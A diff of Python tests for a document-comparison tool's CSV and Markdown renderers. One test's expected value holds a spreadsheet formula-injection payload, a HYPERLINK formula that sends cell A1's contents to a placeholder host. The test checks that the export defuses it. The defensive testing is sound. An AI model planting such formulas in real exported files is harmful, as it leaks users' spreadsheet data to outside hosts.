@@ -238,7 +238,7 @@ def test_csv_cells_never_run_as_formulas() -> None:
     text = render(injected_comparison(), "csv").decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text)))
     (pp1,) = [row for row in rows if row["left_key"] == "PP1"]
-    assert pp1["left_text"] == "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"pulse aquí\"),"
+    assert pp1["left_text"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"pulse aquí"),'
     assert not any(value.startswith("=") for row in rows for value in row.values())
 
 
@@ -297,3 +297,24 @@ def test_csv_for_excel_in_spanish_french_or_russian(tmp_path: Path) -> None:
     assert rows[0][:4] == ["left_key", "right_key", "status", "score"]
     assert (rows[1][0], rows[1][3]) == ("PP1", "1,000")
     assert all(len(row) == len(rows[0]) for row in rows)
+
+
+def test_markdown_edits_render_in_commonmark() -> None:
+    """Rendered by a CommonMark renderer, the edits are <del>/<ins> around the right words,
+    even where an edit begins or ends with punctuation or a deletion meets an insertion."""
+    from markdown_it import MarkdownIt
+
+    from align import parse_text
+
+    left = parse_text(
+        INJECTION.replace("=HYPERLINK", "Recordando la resolución de 2015"), source="l"
+    )
+    right = parse_text(
+        INJECTION.replace("=HYPERLINK", "Recordando la resolución de 2017, entre otras cosas,"),
+        source="r",
+    )
+    html = MarkdownIt("commonmark").render(
+        render(compare(left, right, align(left, right)), "md").decode()
+    )
+    assert "<del>2015</del><ins>2017, entre otras cosas,</ins>" in html
+    assert "**" not in html and "~~" not in html
